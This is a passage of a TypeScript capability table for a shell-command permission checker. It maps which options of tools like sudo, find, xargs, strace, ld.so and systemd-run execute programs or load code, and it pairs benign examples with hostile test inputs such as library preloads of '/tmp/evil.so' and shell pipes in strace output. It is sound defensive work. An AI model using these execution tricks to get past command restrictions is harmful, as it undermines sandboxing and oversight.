import { GIT_CONFIG_KEYS } from './git-keys.ts';
import type { KeyedCap, OptCap, PosSpec, ToolEntry } from './spec.ts';

/**
 * The capability table: per tool, which options, subcommands and positionals run programs, read or write files
 * or use the network, and which options take a value. Written from each tool's manual and `--help` (GTFOBins'
 * function list was used as a checklist of what to cover). Test placeholders: `{P}` is a shell command line
 * (written inside single quotes by the example), `{A}` a command given as words (`bash -c "…"`).
 *
 * Adding a tool: list every option it accepts (an unknown option of a tool with `exec: true` is opaque), mark the
 * ones that run something, give a benign example that must stay allowed and a hostile example per capability.
 */

type Opts = Readonly<Record<string, OptCap>>;
const HV: Opts = { '--help --version -h -V': 'flag' };

/** ssh_config settings that run programs or load code. */
const SSH_O: KeyedCap = {
  keys: [
    [/^(?:proxycommand|localcommand|knownhostscommand|remotecommand)\s*[=\s]\s*([\s\S]*)$/i, 'shell'],
    [/^match\s+(?:[\s\S]*\s)?exec\s+([\s\S]*)$/i, 'shell'],
    [/^(?:pkcs11provider|securitykeyprovider)\s*[=\s]\s*([\s\S]*)$/i, 'library'],
    [/^(?:include)\s*[=\s]\s*([\s\S]*)$/i, 'script'],
  ],
};
const SSH_SHARED: Opts = {
  '-o': SSH_O,
  '-F': 'script',
  '-i': 'read',
  '-J': 'net',
  '-c -l -p -P -m -D -E -b -B -L -R -W -w -O -Q -S -e -X': 'value',
  '-I': 'library',
  '-1 -2 -3 -4 -6 -A -a -C -f -G -g -K -k -M -N -n -q -s -T -t -V -v -x -Y -y -r -p? -R?': 'flag',
};

/** Long-option spellings `--a --b` for short ones are written together with them. */
const FIND_TESTS = [
  '-name -iname -path -ipath -wholename -iwholename -regex -iregex -lname -ilname -type -xtype -size -perm -user -group',
  '-uid -gid -newer -anewer -cnewer -mtime -atime -ctime -mmin -amin -cmin -used -links -inum -samefile -maxdepth',
  '-mindepth -fstype -context -regextype -printf -D',
  ...['a', 'B', 'c', 'm', 't'].flatMap((x) => ['a', 'B', 'c', 'm', 't'].map((y) => `-newer${x}${y}`)),
].join(' ');
const FIND_FLAGS =
  '-print -print0 -ls -delete -prune -quit -true -false -empty -executable -readable -writable -nouser -nogroup -depth -d ' +
  '-mount -xdev -noleaf -follow -ignore_readdir_race -noignore_readdir_race -daystart -warn -nowarn -not -a -and -o -or ' +
  '-P -L -H -O0 -O1 -O2 -O3 -help --help -version --version -xautofs -nowarn -posix';

const TAR_VALUES =
  '--add-file --after-date --atime-preserve? --backup? --checkpoint? --exclude --exclude-ignore --exclude-ignore-recursive ' +
  '--exclude-tag --exclude-tag-all --exclude-tag-under --group --group-map --hole-detection --index-file --level --mode ' +
  '--mtime --newer-mtime --no-quote-chars --occurrence? --one-top-level? --owner --owner-map --quote-chars --quoting-style ' +
  '--record-size --sort --sparse-version --strip-components --suffix --totals? --transform --xform --volno-file --warning ' +
  '--xattrs-exclude --xattrs-include -C --directory -H --format -K --starting-file -L --tape-length -N --newer -V --label ' +
  '-b --blocking-factor -g --listed-incremental --pax-option --exclude-from -X -T --files-from';
const TAR_FLAGS =
  '--acls --anchored --check-device --clamp-mtime --compare --concatenate --confirmation --delay-directory-restore --delete ' +
  '--diff --exclude-backups --exclude-caches --exclude-caches-all --exclude-caches-under --exclude-vcs --exclude-vcs-ignores ' +
  '--force-local --full-time --get --gunzip --hard-dereference --ignore-case --ignore-command-error --ignore-failed-read ' +
  '--keep-directory-symlink --keep-newer-files --list --lzip --lzma --lzop --no-acls --no-anchored --no-auto-compress ' +
  '--no-check-device --no-delay-directory-restore --no-ignore-case --no-ignore-command-error --no-null --no-overwrite-dir ' +
  '--no-recursion --no-same-owner --no-same-permissions --no-seek --no-selinux --no-unquote --no-verbatim-files-from ' +
  '--no-wildcards --no-wildcards-match-slash --no-xattrs --null --numeric-owner --old-archive --one-file-system --overwrite ' +
  '--overwrite-dir --portability --posix --recursion --recursive-unlink --remove-files --restrict --same-order --same-owner ' +
  '--same-permissions --selinux --show-defaults --show-omitted-dirs --show-snapshot-field-ranges --show-stored-names ' +
  '--show-transformed-names --skip-old-files --sparse --uncompress --ungzip --unquote --usage --utc --verbatim-files-from ' +
  '--wildcards --wildcards-match-slash --xattrs --zstd -A --catenate -B --read-full-records -G --incremental -J --xz -M ' +
  '--multi-volume -O --to-stdout -P --absolute-names -R --block-number -S -U --unlink-first -W --verify -Z --compress -a ' +
  '--auto-compress -c --create -d -h --dereference -i --ignore-zeros -j --bzip2 -k --keep-old-files -l --check-links -m ' +
  '--touch -n --seek -p --preserve-permissions -r --append -s --preserve-order -t -u --update -v --verbose -w --interactive ' +
  '-x --extract -z --gzip -o --no-same-owner --test-label --help --version';

const DOCKER_RUN_VALUES =
  '-a --attach --add-host --annotation --blkio-weight --blkio-weight-device --cap-add --cap-drop --cgroup-parent --cgroupns ' +
  '--cidfile --cpu-period --cpu-quota --cpu-rt-period --cpu-rt-runtime -c --cpu-shares --cpus --cpuset-cpus --cpuset-mems ' +
  '--detach-keys --device --device-cgroup-rule --device-read-bps --device-read-iops --device-write-bps --device-write-iops ' +
  '--dns --dns-option --dns-search --domainname -e --env --env-file --expose --gpus --group-add --health-interval ' +
  '--health-retries --health-start-period --health-start-interval --health-timeout -h --hostname --ip --ip6 --ipc ' +
  '--isolation --kernel-memory -l --label --label-file --link --link-local-ip --log-driver --log-opt --mac-address -m ' +
  '--memory --memory-reservation --memory-swap --memory-swappiness --mount --name --network --net --network-alias ' +
  '--oom-score-adj --pid --pids-limit --platform -p --publish --pull --restart --runtime --security-opt --shm-size ' +
  '--stop-signal --stop-timeout --storage-opt --sysctl --tmpfs --ulimit -u --user --userns --uts -v --volume ' +
  '--volume-driver --volumes-from -w --workdir --sig-proxy?';
const DOCKER_RUN_FLAGS = '-d --detach --disable-content-trust --init -i --interactive --no-healthcheck --oom-kill-disable --privileged -P --publish-all -q --quiet --read-only --rm -t --tty --use-api-socket';

const APT_O: KeyedCap = {
  keys: [
    [/^(?:APT::Update::(?:Pre|Post)-Invoke(?:-Success)?|DPkg::(?:Pre|Post)-Invoke|DPkg::Pre-Install-Pkgs|APT::Periodic::[^=]*|Acquire::[^=]*::Proxy-Auto-Detect|Dir::Bin::[^=]*|DPkg::Path|APT::Key::gpgvcommand|Debug::RunScripts)(?:::)?\s*=\s*([\s\S]*)$/i, 'shell'],
    [/^(?:Dir::Etc(?:::[^=]*)?|Dir::State(?:::[^=]*)?|Dir::Cache(?:::[^=]*)?|Dir)\s*=\s*([\s\S]*)$/i, 'value'],
    [/^(DPkg::Options[\s\S]*)$/i, 'unsafe'],
  ],
};
const APT_OPTS: Opts = {
  ...HV,
  '-o --option': APT_O,
  '-c --config-file': 'script',
  '-t --target-release --default-release -a --host-architecture -P --build-profiles --error-on?': 'value',
  '-d --download-only -f --fix-broken -m --ignore-missing --fix-missing --no-download -q --quiet -s --simulate --just-print --dry-run --recon --no-act -y --yes --assume-yes --assume-no -u --show-upgraded -V --verbose-versions -b --compile --build --ignore-hold --with-new-pkgs --no-upgrade --only-upgrade --allow-downgrades --allow-remove-essential --allow-change-held-packages --force-yes --print-uris --purge --reinstall --list-cleanup --no-list-cleanup --trivial-only --no-remove --auto-remove --autoremove --only-source --diff-only --dsc-only --tar-only --arch-only --indep-only --allow-unauthenticated --allow-insecure-repositories --allow-releaseinfo-change --show-progress --no-install-recommends --install-recommends --no-install-suggests --install-suggests --fix-policy --update --no-update --full --installed --upgradable --all-versions --with-source --solver --mark-auto -qq --color --no-color': 'flag',
};

const VIM_OPTS: Opts = {
  ...HV,
  '-c --cmd': 'bang',
  '-S -s -u -U': 'script',
  '-w -W': 'write',
  '-i -T -t -q -r? --startuptime --servername --log --listen': 'value',
  '--remote-send --remote-expr': 'bang',
  '--remote --remote-silent --remote-wait --remote-wait-silent --remote-tab --remote-tab-silent --remote-tab-wait --remote-tab-wait-silent': 'flag',
  '-A -b -C -d -D -e -E -f -F -g -H -l -L -m -M -n -N -o? -O? -p? -R -v -V? -x -X -y -Z -Z --clean --noplugin --not-a-term --ttyfail --nofork --literal --serverlist --embed --headless -es -Es -':
    'flag',
};

const PAGER_OPTS: Opts = {
  ...HV,
  '-b --buffers -h --max-back-scroll -j --jump-target -o --log-file -O --LOG-FILE -T --tag-file -x --tabs -y --max-forw-scroll -z --window -# --shift -D --color -p --pattern -P --prompt -t --tag --lesskey-src -k --lesskey-file --line-num-width --status-col-width --rscroll --wordwrap --header --intr --search-options --tabs --mouse? --wheel-lines --redraw-on-quit --use-backslash --proc-backspace --proc-tab --proc-return --exit-follow-on-close':
    'value',
  '-a -A -B -c -C -d -e -E -f -F -g -G -i -I -J -K -L -m -M -n -N -q -Q -r -R -s -S -u -U -w -W -X -~ --search-skip-screen --SEARCH-SKIP-SCREEN --auto-buffers --clear-screen --CLEAR-SCREEN --dumb --quit-at-eof --QUIT-AT-EOF --quit-if-one-screen --hilite-search --HILITE-SEARCH --ignore-case --IGNORE-CASE --status-column --quit-on-intr --long-prompt --LONG-PROMPT --line-numbers --LINE-NUMBERS --quiet --silent --QUIET --SILENT --raw-control-chars --RAW-CONTROL-CHARS --squeeze-blank-lines --chop-long-lines --underline-special --UNDERLINE-SPECIAL --hilite-unread --HILITE-UNREAD --no-init --tilde --no-keypad --follow-name --no-histdups --save-marks --incsearch --no-number-headers --no-search-headers --no-vbell --file-size --show-preproc-errors':
    'flag',
};

/** Flags and value options shared by most GNU wrappers (`--help`, `--version`). */
function wrapper(names: readonly string[], opts: Opts, pos: PosSpec, benign: readonly string[], hostile: readonly string[], extra: Partial<ToolEntry> = {}): ToolEntry {
  return { names, exec: true, opts: { ...HV, ...opts }, pos, benign, hostile, ...extra };
}

export const TOOLS: readonly ToolEntry[] = [
  // ---------------------------------------------------------------- wrappers: run their argv
  wrapper(['sudo'], {
    '-C --close-from -D --chdir -g --group -h? --host -p --prompt -R --chroot -r --role -t --type -T --command-timeout -U --other-user -u --user': 'value',
    '-A --askpass -b --background -B --bell -E --preserve-env? -H --set-home -i --login -K --remove-timestamp -k --reset-timestamp -n --non-interactive -P --preserve-groups -S --stdin -s --shell -N --no-update': 'flag',
    '-l --list -v --validate -e --edit': 'noexec',
  }, { argvAt: 0, assigns: true }, ['sudo apt-get update', 'sudo -n true'], ['sudo -u root {A}', 'sudo -E FOO=1 {A}']),
  wrapper(['doas'], { '-u -C': 'value', '-n -s -L': 'flag' }, { argvAt: 0 }, ['doas -u build ls'], ['doas -u root {A}']),
  wrapper(['nice'], { '-n --adjustment': 'value', '-0 -1 -2 -3 -4 -5 -6 -7 -8 -9 --': 'flag' }, { argvAt: 0 }, ['nice -n 10 make -j8'], ['nice -n 5 {A}', 'nice -10 {A}']),
  wrapper(['nohup'], {}, { argvAt: 0 }, ['nohup npm run dev'], ['nohup {A}']),
  wrapper(['timeout', 'gtimeout'], { '-s --signal -k --kill-after': 'value', '--foreground --preserve-status -v --verbose -p': 'flag' }, { argvAt: 1 }, ['timeout 30 pnpm dev', 'timeout -s KILL 5s npm test'], ['timeout 5 {A}', 'timeout -k 1 10s {A}']),
  wrapper(['time'], { '-f --format': 'value', '-o --output': 'write', '-p --portability -a --append -v --verbose -q --quiet': 'flag' }, { argvAt: 0 }, ['time make test'], ['time -p {A}']),
  wrapper(['stdbuf'], { '-i --input -o --output -e --error': 'value' }, { argvAt: 0 }, ['stdbuf -oL tail -f log.txt'], ['stdbuf -o0 {A}']),
  wrapper(['setsid'], { '-c --ctty -f --fork -w --wait': 'flag' }, { argvAt: 0 }, ['setsid -f sleep 1'], ['setsid -w {A}']),
  wrapper(['ionice'], { '-c --class -n --classdata': 'value', '-t --ignore': 'flag', '-p --pid -P --pgid -u --uid': 'noexec' }, { argvAt: 0 }, ['ionice -c3 make', 'ionice -p 1'], ['ionice -c 3 {A}']),
  wrapper(['chrt'], { '-T --sched-runtime -P --sched-period -D --sched-deadline': 'value', '-b --batch -d --deadline -f --fifo -i --idle -o --other -r --rr -R --reset-on-fork -a --all-tasks -v --verbose': 'flag', '-m --max -p --pid': 'noexec' }, { argvAt: 1 }, ['chrt -m', 'chrt 0 true'], ['chrt -o 0 {A}']),
  wrapper(['taskset'], { '-a --all-tasks -c --cpu-list': 'flag', '-p --pid': 'noexec' }, { argvAt: 1 }, ['taskset -c 0 make', 'taskset -p 1'], ['taskset 1 {A}', 'taskset -c 0,1 {A}']),
  wrapper(['flock'], { '-c --command': 'shell', '-w --timeout -E --conflict-exit-code': 'value', '-s --shared -x -e --exclusive -n --nb --nonblock -u --unlock -o --close -F --no-fork --verbose': 'flag' }, { argvAt: 1, shellFlagAtArgv: ['-c', '--command'] }, ['flock /tmp/build.lock make'], ['flock /tmp/x.lock {A}', "flock /tmp/x.lock -c '{P}'", "flock -c '{P}' /tmp/x.lock"]),
  wrapper(['setarch'], {
    '-3 --3gb -4 --4gb -B --32bit -F --fdpic-funcptrs -I --short-inode -L --addr-compat-layout -R --addr-no-randomize -S --whole-seconds -T --sticky-timeouts -X --read-implies-exec -Z --mmap-page-zero -v --verbose --uname-2.6': 'flag',
    '--list': 'noexec',
  }, { argvAt: 1, defaultShell: true }, ['setarch x86_64 -R ./bench'], ['setarch x86_64 -R {A}', 'setarch -3 linux32 {A}']),
  wrapper(['linux32', 'linux64', 'i386', 'x86_64', 'uname26'], {
    '-3 --3gb -4 --4gb -B --32bit -F --fdpic-funcptrs -I --short-inode -L --addr-compat-layout -R --addr-no-randomize -S --whole-seconds -T --sticky-timeouts -X --read-implies-exec -Z --mmap-page-zero -v --verbose --uname-2.6': 'flag',
  }, { argvAt: 0, defaultShell: true }, ['linux64 uname -m'], ['linux32 {A}']),
  wrapper(['prlimit'], {
    '-c? --core? -d? --data? -e? --nice? -f? --fsize? -i? --sigpending? -l? --memlock? -m? --rss? -n? --nofile? -q? --msgqueue? -r? --rtprio? -s? --stack? -t? --cpu? -u? --nproc? -v? --as? -x? --locks? -y? --rttime? -o --output': 'value',
    '--noheadings --raw --verbose': 'flag',
    '-p --pid': 'pid',
  }, { argvAt: 0 }, ['prlimit --nofile=1024 ./server'], ['prlimit --as=100000000 {A}', 'prlimit -n1024 {A}']),
  wrapper(['setpriv'], {
    '--ambient-caps --inh-caps --bounding-set --ruid --euid --rgid --egid --reuid --regid --groups --securebits --pdeathsig --selinux-label --apparmor-profile --landlock-access --landlock-rule': 'value',
    '--no-new-privs --nnp --clear-groups --keep-groups --init-groups --reset-env': 'flag',
    '-d --dump': 'noexec',
  }, { argvAt: 0 }, ['setpriv --no-new-privs make test'], ['setpriv --nnp {A}']),
  wrapper(['unshare'], {
    '-m? --mount? -u? --uts? -i? --ipc? -n? --net? -p? --pid? -U? --user? -C? --cgroup? -T? --time? --kill-child? --mount-proc? --map-user --map-group --map-users --map-groups --propagation --setgroups -S --setuid -G --setgid -R --root -w --wd --monotonic --boottime -l --load-interp': 'value',
    '-f --fork -r --map-root-user -c --map-current-user --map-auto --keep-caps': 'flag',
  }, { argvAt: 0, defaultShell: true }, ['unshare -r id'], ['unshare -r {A}', 'unshare --net=/proc/1/ns/net {A}']),
  wrapper(['nsenter'], {
    '-t --target -S --setuid -G --setgid -W --wdns -m? --mount? -u? --uts? -i? --ipc? -n? --net? -p? --pid? -U? --user? -C? --cgroup? -T? --time? -r? --root? -w? --wd?': 'value',
    '-a --all --preserve-credentials -e --env -F --no-fork -Z --follow-context -c --join-cgroup': 'flag',
  }, { argvAt: 0, defaultShell: true }, ['nsenter -t 1 -n ip addr'], ['nsenter -t 1 -m {A}']),
  wrapper(['chroot'], { '--userspec --groups': 'value', '--skip-chdir': 'flag' }, { argvAt: 1, defaultShell: true }, ['chroot /srv/root ls'], ['chroot / {A}']),
  wrapper(['bwrap'], {
    '--args': 'unsafe',
    '--bind --bind-try --dev-bind --dev-bind-try --ro-bind --ro-bind-try --symlink --setenv --bind-data --ro-bind-data --file --chmod': 'value2',
    '--uid --gid --hostname --chdir --unsetenv --lock-file --sync-fd --userns --userns2 --pidns --proc --dev --tmpfs --mqueue --dir --seccomp --add-seccomp-fd --info-fd --json-status-fd --block-fd --userns-block-fd --exec-label --file-label --cap-add --cap-drop --perms --size --remount-ro --argv0 --overlay-src --overlay --tmp-overlay --ro-overlay':
      'value',
    '--unshare-all --share-net --unshare-user --unshare-user-try --unshare-ipc --unshare-pid --unshare-net --unshare-uts --unshare-cgroup --unshare-cgroup-try --disable-userns --assert-userns-disabled --clearenv --new-session --die-with-parent --as-pid-1 --level-prefix':
      'flag',
  }, { argvAt: 0 }, ['bwrap --ro-bind / / --unshare-net true'], ['bwrap --dev-bind / / {A}']),
  wrapper(['proot'], {
    '-r --rootfs -b --bind -m --mount -w --pwd --cwd -k --kernel-release -i --change-id -v --verbose -R -S -p --port': 'value',
    '-q --qemu': 'program',
    '-0 --root-id -L -n --link2symlink --kill-on-exit': 'flag',
  }, { argvAt: 0, defaultShell: true }, ['proot -r ./rootfs ls'], ['proot -0 {A}', "proot -q '{P}' ls"]),
  wrapper(['xvfb-run'], { '-e --error-file -f --auth-file -n --server-num -p --xauth-protocol -s --server-args -w --wait': 'value', '-a --auto-servernum -l --listen-tcp -d': 'flag' }, { argvAt: 0 }, ['xvfb-run -a npx playwright test'], ['xvfb-run -a {A}']),
  wrapper(['dbus-run-session'], { '--config-file': 'value', '--dbus-daemon': 'program' }, { argvAt: 0 }, ['dbus-run-session -- pytest'], ['dbus-run-session -- {A}', "dbus-run-session --dbus-daemon='{P}' true"]),
  wrapper(['dbus-launch'], { '--autolaunch --config-file': 'value', '--exit-with-session --exit-with-x11 --sh-syntax --csh-syntax --binary-syntax --close-stderr': 'flag' }, { argvAt: 0 }, ['dbus-launch --sh-syntax'], ['dbus-launch {A}']),
  wrapper(['rlwrap'], {
    '-z --filter': 'program',
    '-b --break-chars -C --command-name -D --history-no-dupes -e --extra-char-after-completion -f --file -F --history-format -g --forget-matching -H --history-filename -l --logfile -O --only-cook -P --pre-given -q --quote-characters -s --histsize -S --substitute-prompt -t --set-term-name -w --polling -a? --always-readline? -p? --prompt-colour? -M --multi-line-ext -W --polling': 'value',
    '-A --ansi-colour-aware -c --complete-filenames -h -i --case-insensitive -I --pass-sigint-as-sigterm -m? --multi-line? -n --no-warnings -N --no-children -o --one-shot -r --remember -R --renice -U --mirror-arguments -v --version -X': 'flag',
  }, { argvAt: 0 }, ['rlwrap -c sqlite3 app.db'], ['rlwrap -c {A}', "rlwrap -z '{P}' cat"]),
  wrapper(['strace'], {
    '-o --output': { keys: [[/^[|!]([\s\S]*)$/, 'shell'], [/^([\s\S]*)$/, 'write']] },
    '-e -s --string-limit -u --user -E --env -O -a --columns -P --trace-path -S --summary-sort-by -b --detach-on -I --interruptible -X --const-print-style -U --summary-columns --trace --signal --status --abbrev --verbose --raw --read --write --inject --fault --kvm --quiet --decode-fds --seccomp-bpf? --timestamps? --absolute-timestamps? --relative-timestamps? --syscall-times? --stack-trace? --tips? --secontext?': 'value',
    '-p --attach': 'pid',
    '-c --summary-only -C --summary -d --debug -D -DD -DDD --daemonize? -f --follow-forks --output-separately -ff -F -h -i --instruction-pointer -k -n --syscall-number -q -qq -r -t -tt -ttt -T -v --no-abbrev -V -w --summary-wall-clock -x -xx -y -yy -z --successful-only -Z --failed-only -Y --decode-pids? --always-show-pid': 'flag',
  }, { argvAt: 0 }, ['strace -f -e trace=execve ls'], ['strace -f {A}', "strace -o '|{P}' ls"]),
  wrapper(['ltrace'], {
    '-o --output': 'write',
    '-e -s -u -n --indent -a --align -A -D --debug -F --config -w --where -x -j': 'value',
    '-l --library': 'library',
    '-p': 'pid',
    '-b --no-signals -c -C --demangle -f -i -L -r -S -t -tt -ttt -T': 'flag',
  }, { argvAt: 0 }, ['ltrace -c ls'], ['ltrace -f {A}', 'ltrace -l /tmp/evil.so ls']),
  wrapper(['valgrind'], { '--db-command': 'shell', '--log-file --xml-file --log-socket --tool --suppressions --gen-suppressions --vgdb-prefix': 'value' }, { argvAt: 0 }, ['valgrind --leak-check=full ./a.out'], ['valgrind --leak-check=full {A}', "valgrind --db-command='{P}' ./a.out"], { strict: false }),
  wrapper(['firejail'], { '--shell': 'program', '--profile --private --whitelist --blacklist --name --join --net --ip --dns --output --output-stderr': 'value' }, { argvAt: 0, defaultShell: true }, ['firejail --noprofile ls'], ['firejail --noprofile {A}', "firejail --shell='{P}' ls"], { strict: false }),
  wrapper(['systemd-run'], {
    '-p --property': { keys: [[/^Exec[A-Za-z]*\s*=\s*[-@:+!]*([\s\S]*)$/, 'shell']] },
    '-u --unit --description --slice -E --setenv --uid --gid --nice --working-directory --on-active --on-boot --on-startup --on-unit-active --on-unit-inactive --on-calendar --on-clock-change --on-timezone-change --timer-property --path-property --socket-property -M --machine -H --host --service-type --expand-environment': 'value',
    '--user --system --scope -r --remain-after-exit --send-sighup -t --pty -P --pipe -G --collect -q --quiet --wait --no-block --no-ask-password -d --same-dir --slice-inherit --ignore-failure --background --json --shell -S': 'flag',
  }, { argvAt: 0 }, ['systemd-run --user --scope make'], ['systemd-run --user {A}', "systemd-run -p 'ExecStartPre={P}' true"]),
  wrapper(['torsocks', 'torify'], { '-u --user -p --pass -a --address -P --port': 'value', '-d --debug -q --quiet -i --isolate --shell': 'flag' }, { argvAt: 0 }, ['torsocks curl -I https://example.com'], ['torsocks {A}']),
  wrapper(['proxychains', 'proxychains4'], { '-f': 'read', '-q': 'flag' }, { argvAt: 0 }, ['proxychains4 -q curl https://example.com'], ['proxychains4 -q {A}']),
  wrapper(['eatmydata', 'catchsegv', 'aoss', 'distcc', 'pexec'], {}, { argvAt: 0 }, ['eatmydata apt-get update'], ['eatmydata {A}'], { strict: false }),
  wrapper(['fakeroot'], { '-l --lib': 'library', '--faked': 'program', '-s -i -b': 'value', '-u --unknown-is-real': 'flag' }, { argvAt: 0, defaultShell: true }, ['fakeroot dpkg-deb --build pkg'], ['fakeroot {A}', "fakeroot --faked '{P}' true"]),
  wrapper(['chronic'], { '-e -v': 'flag' }, { argvAt: 0 }, ['chronic make'], ['chronic {A}']),
  wrapper(['unbuffer'], { '-p': 'flag' }, { argvAt: 0 }, ['unbuffer npm test'], ['unbuffer {A}']),
  wrapper(['caffeinate'], { '-t -w': 'value', '-d -i -m -s -u': 'flag' }, { argvAt: 0 }, ['caffeinate -i make'], ['caffeinate -i {A}']),
  wrapper(['aa-exec'], { '-p --profile -n --namespace': 'value', '-i --immediate -v --verbose -d --debug': 'flag' }, { argvAt: 0 }, ['aa-exec -p unconfined ls'], ['aa-exec -p unconfined {A}']),
  wrapper(['pkexec'], { '--user': 'value', '--disable-internal-agent --keep-cwd': 'flag' }, { argvAt: 0 }, ['pkexec --user root ls'], ['pkexec {A}']),
  wrapper(['sshpass'], { '-p -f -d -P': 'value', '-e -v': 'flag' }, { argvAt: 0 }, ['sshpass -e ssh -V'], ['sshpass -p x {A}']),
  wrapper(['ssh-agent'], { '-a -E -O -P -t': 'value', '-c -s -D -d -k': 'flag' }, { argvAt: 0 }, ['ssh-agent -s'], ['ssh-agent {A}']),
  wrapper(['softlimit'], { '-m -d -s -l -a -o -p -f -c -r -t': 'value' }, { argvAt: 0 }, ['softlimit -m 100000000 ./server'], ['softlimit -m 100000000 {A}']),
  wrapper(['multitime'], { '-n -s -i -o': 'value', '-q -l': 'flag' }, { argvAt: 0 }, ['multitime -n 3 ./bench'], ['multitime -n 1 {A}']),
  wrapper(['cpulimit'], { '-l --limit -P --path': 'value', '-p --pid -e --exe': 'pid', '-z --lazy -i --include-children -k --kill -r --restore -b --background -f --foreground -q --quiet -m --monitor-forks -v --verbose': 'flag' }, { argvAt: 0 }, ['cpulimit -l 50 -- make'], ['cpulimit -l 100 -f -- {A}']),
  wrapper(['choom'], { '-n --adjust': 'value', '-p --pid': 'pid' }, { argvAt: 0 }, ['choom -n 100 make'], ['choom -n 0 {A}']),
  wrapper(['logsave'], { '-a -s -v': 'flag' }, { argvAt: 1 }, ['logsave build.log make'], ['logsave /dev/null {A}']),
  wrapper(['setlock'], { '-n -N -x -X': 'flag' }, { argvAt: 1 }, ['setlock -n /tmp/lock make'], ['setlock -n /tmp/lock {A}']),
  wrapper(['grc'], { '-c --config': 'read', '-e --stderr -s --stdout --colour --pty': 'flag' }, { argvAt: 0 }, ['grc ping -c 1 localhost'], ['grc --pty {A}']),
  wrapper(['ld.so', 'ld-linux.so.2', 'ld-linux-x86-64.so.2', 'ld-linux-aarch64.so.1'], {
    '--library-path --inhibit-rpath --argv0 --glibc-hwcaps-prepend --glibc-hwcaps-mask': 'value',
    '--audit --preload': 'library',
    '--inhibit-cache': 'flag',
    '--list --verify --list-tunables --list-diagnostics': 'noexec',
  }, { argvAt: 0 }, ['ld.so --list /bin/ls'], ['ld.so {A}', 'ld.so --preload /tmp/x.so /bin/true']),
  wrapper(['start-stop-daemon'], {
    '-x --exec -a --startas': 'program',
    '-n --name -u --user -p --pidfile -g --group -c --chuid -r --chroot -d --chdir -N --nicelevel -P --procsched -I --iosched -k --umask -s --signal -R --retry -O --output --notify-timeout': 'value',
    '-S --start -b --background -m --make-pidfile -o --oknodo -q --quiet -v --verbose -T --test -C --no-close --remove-pidfile --notify-await': 'flag',
    '-K --stop --status': 'noexec',
  }, {}, ['start-stop-daemon --stop --pidfile /run/x.pid'], ["start-stop-daemon -S -x '{P}'"]),
  wrapper(['pidstat'], { '-e': 'argv', '-p -C -G -T --dec': 'value', '-d -H -h -I -l -R -r -s -t -U? -u -v -w --human': 'flag' }, {}, ['pidstat -u 1 3'], ['pidstat -e {A}']),
  wrapper(['capsh'], {
    '--shell': 'program',
    '--print --decode? --supports? --has-p? --has-i? --has-a? --has-b? --has-ambient --current --explain?': 'noexec',
    '--caps --drop --inh --addamb --delamb --groups --gid --uid --user --chroot --secbits --keep --iab --mode? --inmode? --quiet --strict --noamb --noenv --killit --forkfor --user-init? --license': 'value',
  }, { argvAt: 0, shellFlagAtArgv: ['-c'], defaultShell: true }, ['capsh --print'], ["capsh -- -c '{P}'", "capsh --shell='{P}' --"]),

  // ---------------------------------------------------------------- launchers with their own grammar
  {
    names: ['xargs'],
    exec: true,
    items: 'xargs',
    opts: {
      ...HV,
      '-a --arg-file': 'read',
      '-d --delimiter -E -I -L -n --max-args -P --max-procs -s --max-chars --process-slot-var -e? --eof? -i? --replace? -l? --max-lines?': 'value',
      '-0 --null -o --open-tty -p --interactive -r --no-run-if-empty -t --verbose -x --exit --show-limits': 'flag',
    },
    pos: { argvAt: 0 },
    benign: ['xargs -0 -I{} rm -f {}', 'xargs -n 1 -P 4 echo', 'xargs grep -l TODO'],
    hostile: ['xargs -a /dev/null {A}', 'xargs -I{} -P 2 {A}', 'xargs -0 {A}', { cmd: 'cat cmds.txt | xargs -n1 sh -c', expectExec: 'sh' }, { cmd: "cat cmds.txt | xargs -I% sh -c '%'", expectExec: 'sh' }],
  },
  {
    names: ['find'],
    exec: true,
    items: 'braces',
    style: 'single',
    opts: {
      '-exec -execdir -ok -okdir': 'argv',
      '-fprint -fprint0 -fls -fprintf': 'write',
      '-files0-from': 'read',
      [FIND_TESTS]: 'value',
      [FIND_FLAGS]: 'flag',
    },
    benign: ['find . -name "*.py" -type f', 'find src -maxdepth 2 -newermt 2024-01-01 -print0', 'find . -name "*.pyc" -exec rm -f {} +', "find . -type f -exec grep -l TODO {} \\;"],
    hostile: ['find . -exec {A} \\;', 'find . -maxdepth 1 -execdir {A} +', 'find /tmp -ok {A} \\;', { cmd: 'find /tmp -type f -exec {} \\;', expectExec: 'find' }, { cmd: "find . -name '*.sh' -exec sh -c '{}' \\;", expectExec: 'sh' }],
  },
  {
    names: ['fd', 'fdfind'],
    exec: true,
    items: 'braces',
    opts: {
      ...HV,
      '-x --exec -X --exec-batch': 'argv',
      '-d --max-depth --min-depth --exact-depth -E --exclude -t --type -e --extension -S --size --changed-within --changed-before --newer --older -o --owner --base-directory --path-separator --search-path -c --color -j --threads --max-results --max-buffer-time --format --ignore-file --batch-size --and --hyperlink? --strip-cwd-prefix? --ignore-contain':
        'value',
      '-H --hidden -I --no-ignore -u --unrestricted --no-ignore-vcs --no-ignore-parent -s --case-sensitive -i --ignore-case -g --glob --regex -F --fixed-strings -a --absolute-path -l --list-details -L --follow -p --full-path -0 --print0 --prune -1 -q --quiet --show-errors --one-file-system --no-require-git --no-hidden --no-follow --no-global-ignore-file --no-ignore-exclude':
        'flag',
    },
    benign: ['fd -e py -t f src', 'fd -e ts -x wc -l'],
    hostile: ['fd -t f -x {A}', 'fd . -X {A}'],
  },
  {
    names: ['watch'],
    exec: true,
    opts: {
      ...HV,
      '-n --interval -s --shotsdir -q --equexit -d? --differences?': 'value',
      '-t --no-title -b --beep -e --errexit -g --chgexit -c --color -C --no-color -p --precise -w --no-wrap -r --no-rerun': 'flag',
      '-x --exec': 'argvmode',
    },
    pos: { wordsAt: 0 },
    benign: ['watch -n 5 ls -la', 'watch -d git status'],
    hostile: ["watch -n 1 '{P}'", 'watch -x {A}'],
  },
  {
    names: ['parallel', 'sem'],
    exec: true,
    items: 'braces',
    strict: false,
    opts: {
      ...HV,
      '--ssh --limit': 'shell',
      '-a --arg-file --sshloginfile --slf': 'read',
      '--joblog --results --res': 'write',
      '-S --sshlogin': 'net',
      '-j --jobs -P -d --delimiter -E -I --colsep -C -n --max-args -N --max-replace-args --tagstring --tmpdir --env --workdir --wd --basefile --bf --return --block --recstart --recend --halt --retries --timeout --delay -L --max-lines -s --max-chars --load --memfree --nice --header --sshdelay --id --termseq --tmux-length --seqreplace --arg-sep --arg-file-sep --blocksize':
        'value',
